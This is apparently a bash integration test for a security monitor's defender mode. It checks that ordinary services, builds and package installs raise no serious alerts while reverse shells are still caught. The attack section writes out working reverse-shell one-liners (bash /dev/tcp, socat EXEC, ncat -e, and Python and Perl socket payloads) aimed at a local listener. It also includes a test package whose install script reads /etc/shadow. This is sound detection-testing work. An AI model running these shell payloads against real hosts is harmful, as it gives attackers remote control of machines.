#!/bin/bash
# `moat defender` on a busy, benign node: the built-in rules must raise no
# alert of severity error or critical (high) on ordinary work, and still
# catch real reverse shells in the same run.
#
# Benign, on the host and in containers of an image built for the test
# (tests/tools/build-benign-image: Debian 12 with python3, nginx, busybox,
# make, ninja, gcc, and the host's node):
#   - a Node.js service running shells through child_process.exec (libuv
#     hands them socketpairs), 200 requests;
#   - a Python service running subprocesses, 200 requests;
#   - busybox httpd (static files and a CGI shell script) and nginx under load;
#   - a C build with make and with ninja, and make spawned by node;
#   - on the host: `npm install` of a local package with a native addon
#     (node-gyp, make, cc; offline, headers from /usr/include/node) and
#     `apt-get install --reinstall` of small cached packages, and of a
#     package built here whose maintainer script reads /etc/shadow (must be
#     seen, and must not raise read-shadow).
# Attacks, to a listener on 127.0.0.1, on the host and in containers: bash
# -i >& /dev/tcp, socat EXEC:, ncat -e and a perl one-liner must each raise
# reverse-shell; a python one-liner that hands the shell a pty (the socket
# stays with python) must raise reverse-shell-cmdline.
#
# Host work runs under copies of bash named benign-sh / atk-*: the alerts'
# proc.ancestors say which side a host process belongs to. Container work
# runs in containers named $P-b-* (benign) and $P-a-* (attacks). A test rule
# of severity info counts the benign processes (one alert per exec'ing
# process), for the figure "alerts per 1,000 benign processes".
#
# Environment (set by meson): MOAT. Exit 0 pass, 1 fail, 77 skip (not root,
# no engine, no eBPF).
. "$(dirname "$0")/lib.sh"
setup_work
need_moat
defender_engine
for t in node npm nginx busybox socat ncat make ninja cc apt-get; do
    command -v "$t" >/dev/null || skip "no $t on the host (scripts/setup)"
done
DATA=$REPO/tests/data/defender/benign
P=moat-benign-$$
BIMG=moat-test/benign:1
# below the ephemeral range (32768-60999), where the load's own connections
# would hold the ports the services bind
BASE=$(( 21000 + $$ % 1000 * 10 ))
DEF_PID=
HOST_PIDS=
cleanup() {
    if [ -n "$DEF_PID" ]; then kill -TERM "$DEF_PID" 2>/dev/null || true; fi
    for p in $HOST_PIDS; do kill "$p" 2>/dev/null || true; done
    "$docker" ps -aq --filter "name=$P" | xargs -r "$docker" rm -f >/dev/null 2>&1 || true
    if dpkg -s moat-benign-probe >/dev/null 2>&1; then
        dpkg -r moat-benign-probe >/dev/null 2>&1 || true
    fi
    if [ -n "${KEEP:-}" ]; then echo "kept $W" >&2; else rm -rf "$MOAT_WORK"; fi
}
trap cleanup EXIT

# --- the image (cached) and the work tree ---
benign_image
APP=$W/app
mkdir -p "$APP" "$W/bin"
cp -r "$DATA"/. "$APP/"
for side in benign-sh atk-devtcp atk-socat atk-ncat atk-python atk-perl atk-listen; do
    cp /bin/bash "$W/bin/$side"
done

# --- the defender: built-in rules plus the process counter ---
mkdir -p "$W/rules"
cp "$REPO"/rules/*.yaml "$W/rules/"
cat >"$W/rules/zz-count.yaml" <<EOF
rules:
  - id: test-benign-process
    description: a process of the benign workload (counted by the test)
    severity: info
    mitre: [T0000]
    action: alert
    scope: both
    when:
      and:
        - {field: evt.kind, equals: exec}
        - or:
            - {field: container.name, startswith: "$P-b-"}
            - {field: proc.ancestors, contains: "$W/bin/benign-sh"}
  - id: test-benign-shadow-read
    description: the benign package's maintainer script read /etc/shadow (seen, to be spared)
    severity: info
    mitre: [T0000]
    action: alert
    scope: host
    when:
      and:
        - {field: evt.kind, equals: open}
        - {field: fd.name, equals: /etc/shadow}
        - {field: proc.ancestors, contains: "$W/bin/benign-sh"}
EOF
start_defender 60 --rules "$W/rules" --format json
grep -q "sensor ebpf" "$W/defender.err" || skip "no eBPF sensor: $(head -n 1 "$W/defender.err")"

wait_http() {   # URL: until it answers (curl exits non-zero until then)
    local c
    for _ in $(seq 1 100); do curl -s -o /dev/null "$1" && return 0; sleep 0.2; done
    for c in $("$docker" ps -aq --filter "name=$P-b-"); do
        "$docker" logs --tail 5 "$c" 2>&1 | sed "s/^/    $c: /" >&2
    done
    tail -n 5 "$W/host/nginx.err" 2>/dev/null >&2 || true
    fail "nothing answers at $1"
}

# --- benign: the host ---
H=$W/host
mkdir -p "$H/ng" "$H/b1" "$H/b2" "$H/b3" "$H/npm"
sed -e "s|@PREFIX@|$H/ng|g" -e "s|@ROOT@|$APP/www|g" -e "s|@PORT@|$((BASE + 3))|g" \
    "$APP/nginx.conf.in" >"$H/ng/nginx.conf"
cat >"$H/run.sh" <<EOF
set -eu
cd "$H"
node "$APP/svc.js" $BASE & echo \$! >>"$H/pids"
/usr/bin/python3 "$APP/svc.py" $((BASE + 1)) & echo \$! >>"$H/pids"
busybox httpd -f -p 127.0.0.1:$((BASE + 2)) -h "$APP/www" & echo \$! >>"$H/pids"
nginx -p "$H/ng" -c "$H/ng/nginx.conf" -g 'daemon off;' 2>"$H/nginx.err" & echo \$! >>"$H/pids"
wait
EOF
# the services' parent stays alive while they run: their shells' proc.ancestors reach benign-sh
"$W/bin/benign-sh" "$H/run.sh" &
RUNNER=$!
for _ in $(seq 1 50); do [ "$(wc -l <"$H/pids" 2>/dev/null)" = 4 ] && break; sleep 0.1; done
HOST_PIDS="$(cat "$H/pids") $RUNNER"
for port in $BASE $((BASE + 1)) $((BASE + 2)) $((BASE + 3)); do wait_http "http://127.0.0.1:$port/"; done
cat >"$H/load.sh" <<EOF
set -eu
cd "$H"
L() { /usr/bin/python3 "$APP/load.py" "\$@" >/dev/null || { echo "load \$1 failed" >&2; exit 1; }; }
L http://127.0.0.1:$BASE/ 200
L http://127.0.0.1:$((BASE + 1))/ 200
L http://127.0.0.1:$((BASE + 2))/index.html 300
L http://127.0.0.1:$((BASE + 2))/cgi-bin/hello.sh 100
L http://127.0.0.1:$((BASE + 3))/index.html 1000
sh "$APP/gen-cbuild.sh" b1 24 && make -s -j2 -C b1 >/dev/null
sh "$APP/gen-cbuild.sh" b2 24 && ninja -j2 -C b2 >/dev/null
sh "$APP/gen-cbuild.sh" b3 12
node -e 'require("child_process").execSync("make -s -j2 -C b3", { stdio: "pipe" })'
cd npm
echo '{"name": "proj", "version": "1.0.0", "private": true}' >package.json
npm_config_nodedir=/usr npm install --no-audit --no-fund --install-links "$APP/addon" >npm.log 2>&1
node -e 'if (require("moat-addon").answer() !== 42) process.exit(1)'
cd ..
export DEBIAN_FRONTEND=noninteractive
APT="apt-get -y -qq -o DPkg::Lock::Timeout=300"
\$APT install --reinstall busybox ncat >apt.log 2>&1
# a package whose maintainer script reads /etc/shadow, as account tools do
mkdir -p deb/DEBIAN
printf 'Package: moat-benign-probe\nVersion: 1.0\nArchitecture: all\n' >deb/DEBIAN/control
printf 'Maintainer: moat <moat@localhost>\nDescription: defender_benign probe\n' >>deb/DEBIAN/control
printf '#!/bin/sh\nset -e\nhead -c 1 /etc/shadow >/dev/null\n' >deb/DEBIAN/postinst
chmod 755 deb/DEBIAN/postinst
dpkg-deb --build deb moat-benign-probe.deb >/dev/null
\$APT install "$H/moat-benign-probe.deb" >>apt.log 2>&1
\$APT remove moat-benign-probe >>apt.log 2>&1
EOF
"$W/bin/benign-sh" "$H/load.sh" 2>"$H/load.err" || { cat "$H/load.err" "$H/npm/npm.log" \
    "$H/apt.log" 2>/dev/null | tail -n 30 >&2; fail "host workload failed"; }
for p in $HOST_PIDS; do kill "$p" 2>/dev/null || true; done
wait "$RUNNER" 2>/dev/null || true
HOST_PIDS=

# --- benign: containers ---
crun() {    # NAME ARGS...: a detached container of the test image on the host network
    local name=$1; shift
    "$docker" run -d --name "$P-$name" --network host -v "$APP:/app:ro" "$BIMG" "$@" \
        >"$W/$name.id" 2>"$W/$name.err" || { cat "$W/$name.err" >&2; fail "docker run $name"; }
}
C=$((BASE + 10))
sed -e "s|@PREFIX@|/tmp|g" -e "s|@ROOT@|/app/www|g" -e "s|@PORT@|$((C + 3))|g" \
    "$APP/nginx.conf.in" >"$APP/nginx-c.conf"
crun b-node node /app/svc.js $C
crun b-py python3 /app/svc.py $((C + 1))
crun b-busybox busybox httpd -f -p 127.0.0.1:$((C + 2)) -h /app/www
crun b-nginx nginx -c /app/nginx-c.conf -g 'daemon off;'
for port in $C $((C + 1)) $((C + 2)) $((C + 3)); do wait_http "http://127.0.0.1:$port/"; done
load() { /usr/bin/python3 "$APP/load.py" "$@" >/dev/null || fail "load $1 failed"; }
load "http://127.0.0.1:$C/" 200
load "http://127.0.0.1:$((C + 1))/" 200
load "http://127.0.0.1:$((C + 2))/index.html" 300
load "http://127.0.0.1:$((C + 2))/cgi-bin/hello.sh" 100
load "http://127.0.0.1:$((C + 3))/index.html" 1000
BRC=0
# the build needs no network (and so no engine bridge)
"$docker" run --name "$P-b-build" --network none -v "$APP:/app:ro" -w /build "$BIMG" bash -c '
    set -e
    sh /app/gen-cbuild.sh b1 24 && make -s -j2 -C b1 >/dev/null
    sh /app/gen-cbuild.sh b2 24 && ninja -j2 -C b2 >/dev/null
    sh /app/gen-cbuild.sh b3 12
    node -e "require(\"child_process\").execSync(\"make -s -j2 -C b3\", { stdio: \"pipe\" })"
    test -x b1/prog && test -x b2/prog-ninja && test -x b3/prog' >"$W/b-build.out" 2>&1 || BRC=$?
[ "$BRC" = 0 ] || { tail -n 20 "$W/b-build.out" >&2; fail "container build exited $BRC"; }

# --- attacks: reverse shells to a listener on the loopback ---
LP=$((BASE + 20))
"$W/bin/atk-listen" -c "exec /usr/bin/python3 '$APP/listener.py' $LP" &
HOST_PIDS=$!
for _ in $(seq 1 50); do
    /usr/bin/python3 -c "import socket; socket.create_connection(('127.0.0.1', $LP), 1).close()" \
        2>/dev/null && break
    sleep 0.2
done
# (each driver runs two commands, so it stays the parent instead of exec'ing the first)
timeout 15 "$W/bin/atk-devtcp" -c "bash -c 'bash -i >& /dev/tcp/127.0.0.1/$LP 0>&1'; true" \
    </dev/null >/dev/null 2>&1 || true
timeout 15 "$W/bin/atk-socat" -c "socat TCP:127.0.0.1:$LP EXEC:/bin/sh; true" </dev/null >/dev/null 2>&1 || true
timeout 15 "$W/bin/atk-ncat" -c "ncat 127.0.0.1 $LP -e /bin/sh; true" </dev/null >/dev/null 2>&1 || true
# python with a pty (the shell gets the pty, only the command line shows) and perl
PYRS="import socket,os,pty;s=socket.socket();s.connect(('127.0.0.1',$LP));"
PYRS="$PYRS[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn('/bin/sh')"
PLRS="use Socket;socket(S,PF_INET,SOCK_STREAM,getprotobyname('tcp'));"
PLRS="$PLRS if(connect(S,sockaddr_in($LP,inet_aton('127.0.0.1')))){open(STDIN,'>&S');"
PLRS="$PLRS open(STDOUT,'>&S');exec('/bin/sh -i');}"
timeout 15 "$W/bin/atk-python" -c "/usr/bin/python3 -c \"$PYRS\"; true" </dev/null >/dev/null 2>&1 || true
timeout 15 "$W/bin/atk-perl" -c "perl -e \"$PLRS\"; true" </dev/null >/dev/null 2>&1 || true
arun() {    # NAME CMD: an attack container on the host network
    timeout 30 "$docker" run --name "$P-a-$1" --network host "$BIMG" bash -c "$2" \
        >"$W/a-$1.out" 2>&1 || true
}
arun devtcp "bash -i >& /dev/tcp/127.0.0.1/$LP 0>&1"
arun socat "socat TCP:127.0.0.1:$LP EXEC:/bin/sh"
arun ncat "ncat 127.0.0.1 $LP -e /bin/sh"
arun python "python3 -c \"$PYRS\""
arun perl "perl -e \"$PLRS\""
sleep 2
kill -TERM "$DEF_PID"
DRC=0; wait "$DEF_PID" || DRC=$?
DEF_PID=
[ "$DRC" = 0 ] || { tail -n 20 "$W/defender.err" >&2; fail "defender exit $DRC on SIGTERM"; }
note "$(tail -n 1 "$W/defender.err")"

# --- verdict ---
$PY - "$W/alerts.jsonl" "$P" "$W/bin/" <<'PYEOF' || fail "see above"
import collections, json, sys
path, prefix, bindir = sys.argv[1:]
benign, attacks, other = [], collections.defaultdict(list), []
procs = set()
shadow_reads = 0
socket_only = 0
every_shell = 0
SHELLS = set("sh bash dash ash zsh ksh csh tcsh fish busybox python python3 perl ruby php nc "
             "ncat socat".split())
for line in open(path):
    a = json.loads(line)
    name = (a["container"] or {}).get("name", "")
    anc = a["details"].get("proc.ancestors", "")
    if a["rule"] == "test-benign-process":
        procs.add((name, a["process"]["pid"]))
        d = a["details"]
        # what reverse-shell did when any socket as stdin/stdout counted
        if d.get("proc.name") in SHELLS and "true" in (d.get("proc.stdin_socket"),
                                                     d.get("proc.stdout_socket")):
            socket_only += 1
        # what shell-in-container did when it reported every shell in a container
        if name and d.get("proc.name") in SHELLS - {"python", "python3", "perl", "ruby", "php",
                                                    "nc", "ncat", "socat"}:
            every_shell += 1
        continue
    if a["rule"] == "test-benign-shadow-read":
        shadow_reads += 1
        continue
    if name.startswith(prefix + "-b-") or (not name and bindir + "benign-sh" in anc):
        benign.append(a)
    elif name.startswith(prefix + "-a-"):
        attacks["container-" + name[len(prefix) + 3:]].append(a["rule"])
    elif not name and bindir + "atk-" in anc:
        side = anc.split(bindir + "atk-")[1].split()[0]
        attacks["host-" + side].append(a["rule"])
    else:
        other.append(a)
bad = [a for a in benign if a["severity"] in ("error", "critical")]
rules = collections.Counter("%s/%s" % (a["rule"], a["severity"]) for a in benign)
n = len(procs)
print("benign: %d processes, %d alerts (%.1f per 1,000 processes), %d error/critical "
      "(%.1f per 1,000): %s" % (n, len(benign), 1000.0 * len(benign) / max(n, 1), len(bad),
                                1000.0 * len(bad) / max(n, 1), dict(rules)), file=sys.stderr)
print("the socket-only check would have raised %d critical reverse-shell alerts on them "
      "(%.1f per 1,000)" % (socket_only, 1000.0 * socket_only / max(n, 1)), file=sys.stderr)
print("shell-in-container reporting every shell in a container would have raised %d "
      "(%.1f per 1,000)" % (every_shell, 1000.0 * every_shell / max(n, 1)), file=sys.stderr)
print("attacks: %s" % {k: sorted(set(v)) for k, v in sorted(attacks.items())}, file=sys.stderr)
if other:
    print("not ours (other processes on the node): %s" %
          dict(collections.Counter(a["rule"] for a in other)), file=sys.stderr)
ok = True
for a in bad[:10]:
    print("BENIGN ALERT %s %s %s: %s (stdin %s, parent %s)" % (
        a["severity"], a["rule"], (a["container"] or {}).get("name", "host"),
        a["process"]["cmdline"][:120], a["details"].get("proc.stdin_type"),
        a["details"].get("parent.name")), file=sys.stderr)
    ok = False
spared = [a for a in benign if a["rule"] == "read-shadow" and not a["container"]]
if shadow_reads == 0 or spared:
    print("host package manager's read of /etc/shadow: seen %d times, %d read-shadow alerts"
          % (shadow_reads, len(spared)), file=sys.stderr)
    ok = False
if n < 1000:
    print("only %d benign processes counted" % n, file=sys.stderr)
    ok = False
for where in ("host", "container"):
    for kind, rule in (("devtcp", "reverse-shell"), ("socat", "reverse-shell"),
                       ("ncat", "reverse-shell"), ("perl", "reverse-shell"),
                       ("python", "reverse-shell-cmdline")):
        if rule not in attacks.get(where + "-" + kind, []):
            print("%s %s reverse shell: no %s alert" % (where, kind, rule), file=sys.stderr)
            ok = False
open(path + ".figure", "w").write("%d %d %d\n" % (n, len(benign), len(bad)))
sys.exit(0 if ok else 1)
PYEOF
read -r NPROC NALERT NBAD <"$W/alerts.jsonl.figure"
pass "$NPROC benign processes, $NALERT alerts ($(( NALERT * 1000 / NPROC )) per 1,000), $NBAD error/critical; 10 reverse shells caught"
